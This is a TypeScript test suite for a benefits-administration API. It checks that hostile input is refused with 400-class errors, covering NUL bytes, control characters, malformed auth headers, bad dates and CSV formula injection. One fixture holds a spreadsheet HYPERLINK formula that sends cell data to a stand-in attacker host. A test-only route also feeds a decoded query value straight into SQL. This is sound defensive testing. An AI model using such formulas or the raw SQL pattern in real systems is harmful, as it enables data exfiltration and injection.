import { randomUUID } from 'node:crypto';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HttpPlugin } from '../../src/platform/http/server.ts';
import { buildWorld, MONTH, type World } from '../authz/fixtures.ts';
import { createTestApp, type TestApp } from '../support/app.ts';
import { Factory } from '../support/factories.ts';

/**
 * Issue 10, findings 6 and 7 (CSV): bad input is the caller's mistake (4xx), never the server's (5xx).
 * The fuzz test (test/fuzz/openapi-fuzz.test.ts) sends such input to every operation; these are the cases
 * the attack found, one by one, with the answers they must get.
 */

interface ErrorBody {
  error: {
    code: string;
    details?: { issues?: { where: string; path: string; message: string }[]; reason?: string };
  };
}

const NUL = 'ab\u0000cd';

/** Routes that reach the database with values no schema checked: the second line of defence. */
const rawSql: HttpPlugin = (app, { database }) => {
  const config = { access: { public: true } } as const;
  app.get('/test/raw-text', { config }, async (request) => {
    const { text } = request.query as { text: string };
    // Decoded here, after the boundary rule, as a careless handler might: only the database refuses it.
    return sql`select ${decodeURIComponent(text)}::text as t`.execute(database.db);
  });
  app.get('/test/raw-date', { config }, async () => sql`select '0000-01-01'::date as d`.execute(database.db));
};

describe('hostile input: 400, never 500', () => {
  let t: TestApp;
  let world: World;
  let staff: Record<string, string>;
  const factory = new Factory(1010);

  beforeAll(async () => {
    t = await createTestApp({ first: [rawSql] });
    world = await buildWorld(t);
    staff = await t.staff('hostile-staff');
  }, 120_000);
  afterAll(async () => {
    await t?.cleanup();
  });

  const issuesOf = (body: string) => JSON.parse(body) as ErrorBody;
  const expectRefused = (
    response: { statusCode: number; body: string },
    where: string,
    path: string,
    message = /NUL/,
  ) => {
    expect(response.statusCode, response.body).toBe(400);
    const body = issuesOf(response.body);
    expect(body.error.code).toBe('VALIDATION_FAILED');
    expect(body.error.details?.issues?.[0]).toMatchObject({
      where,
      path,
      message: expect.stringMatching(message),
    });
  };

  it('refuses NUL in searches, the CSV export and audit filters, naming the parameter', async () => {
    const get = (url: string) => t.app.inject({ method: 'GET', url, headers: staff });
    expectRefused(await get('/api/households?name=ab%00cd'), 'querystring', '/name');
    expectRefused(await get('/api/households/export.csv?name=ab%00cd'), 'querystring', '/name');
    expectRefused(await get('/api/persons?name=ab%00cd'), 'querystring', '/name');
    expectRefused(await get('/api/audit/entries?actorId=staff%3Aa%00b'), 'querystring', '/actorId');
    expectRefused(await get('/api/audit/entries?action=%00'), 'querystring', '/action');
    expectRefused(await get(`/api/households/${world.inside.householdId}%00`), 'params', '/id');
  });

  it('refuses NUL, control characters and lone surrogates in free-text fields, naming the field', async () => {
    const post = (url: string, payload: unknown, headers = staff) =>
      t.app.inject({ method: 'POST', url, headers, payload: payload as object });
    const override = {
      id: randomUUID(),
      householdId: world.inside.householdId,
      programme: 'child_allowance',
      month: MONTH,
      amount: 1000,
      reason: NUL,
      legalBasis: 'Regulation 1',
    };
    expectRefused(await post('/api/overrides', override), 'body', '/reason');
    expectRefused(
      await post('/api/overrides', { ...override, reason: 'ok', legalBasis: 'esc \u001b[2J' }),
      'body',
      '/legalBasis',
      /control/,
    );
    expectRefused(
      await post('/api/appeals', { id: randomUUID(), decisionId: world.inside.decisionId, grounds: NUL }),
      'body',
      '/grounds',
    );
    expectRefused(
      await post(`/api/change-requests/${world.inside.changeRequestId}/reject`, { reason: NUL }),
      'body',
      '/reason',
    );
    const citizen = world.actors.citizen ?? {};
    const log = await t.app.inject({ method: 'GET', url: '/api/me/access-log', headers: citizen });
    const seq = log.json<{ items: { seq: number }[] }>().items[0]?.seq ?? 1;
    expectRefused(
      await post(`/api/me/access-log/${seq}/complaints`, { id: randomUUID(), text: NUL }, citizen),
      'body',
      '/text',
    );
    // A lone surrogate as JSON writes it: JSON.parse makes it a string the database would silently alter.
    const surrogate = await t.app.inject({
      method: 'POST',
      url: '/api/households',
      headers: { ...staff, 'content-type': 'application/json' },
      payload: JSON.stringify(factory.household(world.mahallaA, factory.person())).replace(
        '"address":"',
        '"address":"\\ud800',
      ),
    });
    expectRefused(surrogate, 'body', '/address', /surrogate/);
    // Keys count as much as values.
    expectRefused(await post('/api/change-requests', JSON.parse('{"a\\u0000": 1}')), 'body', '/');
  });

  it('refuses NUL in the sign-in username, sent as JSON or as a form', async () => {
    const json = await t.app.inject({
      method: 'POST',
      url: '/auth/login',
      payload: { username: 'a\u0000b', password: 'whatever-1' },
    });
    expectRefused(json, 'body', '/username');
    const form = await t.app.inject({
      method: 'POST',
      url: '/auth/login',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: 'username=a%00b&password=whatever-1',
    });
    expectRefused(form, 'body', '/username');
  });

  it('answers malformed Basic client credentials on both token endpoints with invalid_client (401)', async () => {
    const b64 = (text: string | number[]) =>
      (typeof text === 'string' ? Buffer.from(text) : Buffer.from(text)).toString('base64');
    const headers = [
      'Basic !!!!',
      `Basic ${b64('no-colon')}`,
      `Basic ${b64([0xff, 0xfe, 0x3a, 0x41])}`,
      `Basic ${b64('%E0%A4%A:secret')}`,
      `Basic ${b64('client:%E0%')}`,
      `Basic ${b64('a%00b:secret')}`,
      `Basic ${b64('a\u0000b:secret')}`,
      `Basic ${b64('%ED%A0%80:x')}`,
    ];
    for (const authorization of headers) {
      const token = await t.app.inject({
        method: 'POST',
        url: '/auth/token',
        headers: { authorization },
        payload: { grant_type: 'client_credentials' },
      });
      expect(token.statusCode, `${authorization}: ${token.body}`).toBe(401);
      expect(token.json()).toMatchObject({ error: 'invalid_client' });
      expect(token.headers['www-authenticate']).toMatch(/^Basic/);
      const demo = await t.app.inject({
        method: 'POST',
        url: '/demo-idp/token',
        headers: { authorization },
        payload: { grant_type: 'authorization_code' },
      });
      expect(demo.statusCode, `${authorization}: ${demo.body}`).toBe(401);
      expect(demo.json()).toMatchObject({ error: 'invalid_client' });
    }
  });

  it('guards formula cells in the CSV export with a single quote', async () => {
    const head = factory.person({ lastName: '@SUM(1+1)', firstName: '-2+3' });
    const household = {
      ...factory.household(world.mahallaA, head),
      address: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    };
    const created = await t.app.inject({
      method: 'POST',
      url: '/api/households',
      headers: staff,
      payload: household,
    });
    expect(created.statusCode, created.body).toBe(201);
    const csv = await t.app.inject({
      method: 'GET',
      url: `/api/households/export.csv?mahallaCode=${world.mahallaA}`,
      headers: staff,
    });
    expect(csv.statusCode).toBe(200);
    const line = csv.body.split('\r\n').find((l) => l.startsWith(household.id));
    expect(line).toBe(
      `${household.id},${world.districtA},${world.mahallaA},` +
        `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",1,'@SUM(1+1),'-2+3`,
    );
  });

  it('refuses dates PostgreSQL cannot hold, and dates and months before the rules took effect', async () => {
    const yearZero = await t.app.inject({
      method: 'POST',
      url: '/api/households',
      headers: staff,
      payload: factory.household(world.mahallaA, factory.person(), '0000-01-01'),
    });
    expectRefused(yearZero, 'body', '/createdOn', /year/);
    const before = await t.app.inject({
      method: 'POST',
      url: '/api/applications',
      headers: staff,
      payload: {
        id: randomUUID(),
        householdId: world.inside.householdId,
        programme: 'social_registry',
        channel: 'portal',
        submittedOn: '2025-12-01',
      },
    });
    expect(before.statusCode, before.body).toBe(422);
    expect(before.json().error.code).toBe('RULES_NOT_IN_FORCE');
    const evaluate = await t.app.inject({
      method: 'POST',
      url: `/api/households/${world.inside.householdId}/evaluate`,
      headers: staff,
      payload: { month: '1999-12' },
    });
    expect(evaluate.statusCode, evaluate.body).toBe(422);
    expect(evaluate.json().error.code).toBe('RULES_NOT_IN_FORCE');
  });

  it('answers paths that are not UTF-8 in the catalogue shape', async () => {
    const response = await t.app.inject({ method: 'GET', url: '/api/households/%E0%A4%A', headers: staff });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      error: { code: 'VALIDATION_FAILED', requestId: expect.any(String) },
    });
  });

  it('answers what the database refuses as the caller’s mistake, as a second line of defence', async () => {
    const text = await t.app.inject({
      method: 'GET',
      url: `/test/raw-text?text=${encodeURIComponent('%00')}`,
    });
    expect(text.statusCode, text.body).toBe(400);
    expect(issuesOf(text.body).error).toMatchObject({
      code: 'VALIDATION_FAILED',
      details: { reason: 'character_not_in_repertoire' },
    });
    const date = await t.app.inject({ method: 'GET', url: '/test/raw-date' });
    expect(date.statusCode, date.body).toBe(400);
    expect(issuesOf(date.body).error.code).toBe('VALIDATION_FAILED');
  });
});
